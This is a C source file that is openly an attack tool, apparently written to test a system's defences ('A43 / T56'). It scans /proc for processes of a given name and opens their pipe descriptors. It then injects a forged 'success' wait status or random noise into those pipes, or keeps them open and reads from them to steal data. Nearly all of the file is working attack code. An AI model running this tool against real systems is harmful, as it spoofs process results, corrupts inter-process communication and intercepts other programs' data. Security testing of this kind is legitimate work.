// A43 / T56: writes to every pipe of the processes of this name that can be
// opened: a forged wait status of success, or noise.
//
// usage: forge NAME success|noise|steal
//
// Says how many descriptors were written to (or, with steal, read from; then it
// keeps them open until it is killed).

#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int kept[64], keeps;

static int attack(const char *path, const char *how)
{
	struct stat about;
	char bytes[4096] = "";
	int fd = open(path, O_RDWR | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &about) || !S_ISFIFO(about.st_mode)) {
		close(fd);
		return 0;
	}
	if (!strcmp(how, "steal") && keeps < 64) {
		kept[keeps++] = fd;
		return 1;
	}
	int random = open("/dev/urandom", O_RDONLY), size = 4;
	if (!strcmp(how, "noise"))
		size = read(random, bytes, sizeof bytes);
	close(random);
	int wrote = write(fd, bytes, size) == size;
	close(fd);
	return wrote;
}

static int attack_all(const char *pid, const char *how)
{
	char folder[300];
	int hit = 0;
	snprintf(folder, sizeof folder, "/proc/%s/fd", pid);
	DIR *descriptors = opendir(folder);
	for (struct dirent *entry; descriptors && (entry = readdir(descriptors));) {
		char path[600];
		snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
		hit += attack(path, how);
	}
	if (descriptors)
		closedir(descriptors);
	return hit;
}

int main(int count, char **arguments)
{
	int hit = 0;
	setvbuf(stdout, NULL, _IOLBF, 0);
	DIR *processes = opendir("/proc");
	for (struct dirent *entry; count == 3 && (entry = readdir(processes));) {
		char path[300], name[32] = "";
		snprintf(path, sizeof path, "/proc/%s/comm", entry->d_name);
		FILE *comm = atoi(entry->d_name) ? fopen(path, "r") : NULL;
		if (!comm)
			continue;
		if (fscanf(comm, "%31s", name) == 1 && !strcmp(name, arguments[1]))
			hit += attack_all(entry->d_name, arguments[2]);
		fclose(comm);
	}
	printf("pipes %d\n", hit);
	while (keeps) {
		struct pollfd any[64];
		char bytes[4096];
		for (int index = 0; index < keeps; index++)
			any[index] = (struct pollfd){ kept[index], POLLIN, 0 };
		poll(any, keeps, -1);
		for (int index = 0; index < keeps; index++)
			if (any[index].revents & POLLIN && read(kept[index], bytes, sizeof bytes) > 0)
				printf("stolen\n");
	}
	return 0;
}
